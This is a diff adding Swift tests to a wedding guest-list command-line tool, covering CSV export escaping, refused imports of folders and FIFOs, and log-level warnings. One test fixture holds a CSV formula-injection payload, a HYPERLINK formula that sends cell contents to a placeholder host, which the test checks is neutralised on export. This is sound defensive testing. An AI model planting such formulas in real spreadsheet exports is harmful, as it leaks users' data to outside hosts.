@@ -1,4 +1,5 @@
 import Foundation
+import Glibc
 import Testing
 
 @Suite("blueprint command line")
@@ -109,6 +110,29 @@ struct CommandLineTests {
         #expect(try target.run(["export", "guests"]).stdout == exported.stdout)
     }
 
+    @Test("CSV export writes formulas as text for spreadsheets, --raw as stored, and either imports back as typed")
+    func exportNeutralisesFormulas() throws {
+        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
+        #expect(try blueprint.run(["wedding", "create", "Ana & Ben"]).status == 0)
+        let hostile = try blueprint.file(named: "rsvp.csv", """
+            First Name,Last Name,Phone,Notes
+            "=HYPERLINK(""http://x.example/?a=""&A1;""click"")",Ng,+1 555 0100,@SUM(1+1)
+            """)
+        #expect(try blueprint.run(["import", "guests", hostile]).status == 0)
+        let safe = try blueprint.run(["export", "guests"])
+        #expect(safe.stdout.contains("\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1;\"\"click\"\")\","), "\(safe.stdout)")
+        #expect(safe.stdout.contains(",'+1 555 0100,") && safe.stdout.hasSuffix(",'@SUM(1+1)\n"), "\(safe.stdout)")
+        let raw = try blueprint.run(["export", "guests", "--raw"])
+        #expect(raw.stdout.contains(",+1 555 0100,") && raw.stdout.hasSuffix(",@SUM(1+1)\n"), "\(raw.stdout)")
+        let json = try blueprint.run(["export", "guests", "--format", "json"])
+        #expect(json.stdout.contains("\"notes\" : \"@SUM(1+1)\""), "\(json.stdout)")
+
+        let target = try BlueprintProcess.withTemporaryDataDirectory()
+        #expect(try target.run(["wedding", "create", "Ana & Ben"]).status == 0)
+        #expect(try target.run(["import", "guests", try target.file(named: "safe.csv", safe.stdout)]).status == 0)
+        #expect(try target.run(["export", "guests", "--raw"]).stdout == raw.stdout)
+    }
+
     @Test("export -o writes a private file; JSON export has every guest")
     func exportToFile() throws {
         let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
@@ -136,7 +160,30 @@ struct CommandLineTests {
 
         let missing = try blueprint.run(["import", "guests", "/nonexistent/guests.csv"])
         #expect(missing.status != 0)
-        #expect(missing.stderr.contains("/nonexistent/guests.csv"))
+        #expect(missing.stderr == "Error: cannot read /nonexistent/guests.csv: No such file or directory\n", "\(missing.stderr)")
+    }
+
+    @Test("import of a folder or a FIFO is refused at once, naming what it is; an empty --data-dir is refused, not taken as here")
+    func notAFileAndNoFolder() throws {
+        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
+        #expect(try blueprint.run(["demo", "--guests", "3"]).status == 0)
+        let before = try blueprint.snapshot()
+        let folder = blueprint.dataDirectory.deletingLastPathComponent().path
+        let folderImport = try blueprint.run(["import", "guests", folder])
+        #expect(folderImport.status == 1)
+        #expect(folderImport.stderr == "Error: cannot read \(folder): it is a folder; name a CSV file\n", "\(folderImport.stderr)")
+        let fifo = folder + "/guests.fifo"
+        #expect(mkfifo(fifo, 0o600) == 0)
+        let fifoImport = try blueprint.run(["import", "guests", fifo])
+        #expect(fifoImport.status == 1)
+        #expect(fifoImport.stderr == "Error: cannot read \(fifo): it is not a regular file; name a CSV file\n", "\(fifoImport.stderr)")
+        #expect(try blueprint.snapshot() == before)
+
+        let work = blueprint.dataDirectory.deletingLastPathComponent()
+        let empty = try blueprint.run(["wedding", "create", "Here", "--data-dir", ""], in: work)
+        #expect(empty.status != 0)
+        #expect(empty.stderr.contains("--data-dir is empty; name a folder"), "\(empty.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: work.appendingPathComponent("weddings").path), "nothing made in the working directory")
     }
 
     @Test("hostile wedding names never reach outside the data directory, and errors never echo escape sequences")
@@ -202,5 +249,16 @@ struct CommandLineTests {
         #expect(stats.stderr.isEmpty, "\(stats.stderr)")
         let log = try String(contentsOf: blueprint.stateHome.appendingPathComponent("blueprint/blueprint.log"), encoding: .utf8)
         #expect(log.contains("starting a new journal"))
+    }
+
+    @Test("an unknown BLUEPRINT_LOG_LEVEL is named in the log, with the levels there are, and the log stays at info")
+    func unknownLogLevel() throws {
+        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
+        let list = try blueprint.run(["wedding", "list"], environment: ["BLUEPRINT_LOG_LEVEL": "verbose"])
+        #expect(list.status == 0)
+        #expect(list.stderr.isEmpty, "never on the screen: \(list.stderr)")
+        let log = try String(contentsOf: blueprint.stateHome.appendingPathComponent("blueprint/blueprint.log"), encoding: .utf8)
+        #expect(log.contains(" warning blueprint: BLUEPRINT_LOG_LEVEL=verbose is not a level, so the log is at info; "
+                             + "the levels are trace, debug, info, notice, warning, error, critical"), "\(log)")
     }
 }
